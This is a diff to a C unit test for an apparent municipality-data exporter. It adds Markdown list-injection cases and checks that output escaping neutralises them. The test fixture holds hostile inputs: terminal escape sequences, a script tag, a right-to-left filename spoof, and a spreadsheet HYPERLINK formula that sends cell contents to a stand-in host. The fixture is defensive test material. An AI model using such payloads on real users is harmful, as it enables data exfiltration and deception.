@@ -265,6 +265,7 @@ END_TEST
 static const char hostile_doc[] =
     "{\"format\":\"veilig\",\"version\":1,\"municipalities\":[{\"code\":\"GM0001\","
     "\"name\":\"Stad\\u001b]0;pwned\\u0007\\u001b[2J\",\"summary\":\"=1+1 <script>x</script>\","
+    "\"policy_links\":[{\"name\":\"1. eerste\"}],\"sources\":[{\"title\":\"- bron\"}],"
     "\"stakeholders\":[{\"id\":\"team\",\"name\":\"-2+3\",\"roles\":[\"executing\"]}],"
     "\"measures\":[{\"id\":\"m\",\"name\":\"=HYPERLINK(\\\"http://x?x=\\\"&A1,\\\"klik\\\")\","
     "\"category\":\"campaign\",\"description\":\"abc\\u202egnp.exe | a\\nb\","
@@ -355,6 +356,9 @@ START_TEST(test_every_format_of_a_municipality) {
     ck_assert_ptr_nonnull(strstr(out, "&lt;script&gt;"));
     ck_assert_ptr_nonnull(strstr(out, "=HYPERLINK(\"http://x?x=\"&amp;A1,\"klik\")"));
     ck_assert_ptr_nonnull(strstr(out, "gnp.exe &#124; a b"));
+    /* a list item's text begins a line: it does not nest a list */
+    ck_assert_msg(strstr(out, "\n- 1\\. eerste\n") != NULL, "%s", out);
+    ck_assert_msg(strstr(out, "\n- \\- bron\n") != NULL, "%s", out);
     veilig_free(out);
     /* CSV: the formula guarded */
     o.format = VEILIG_FORMAT_CSV;
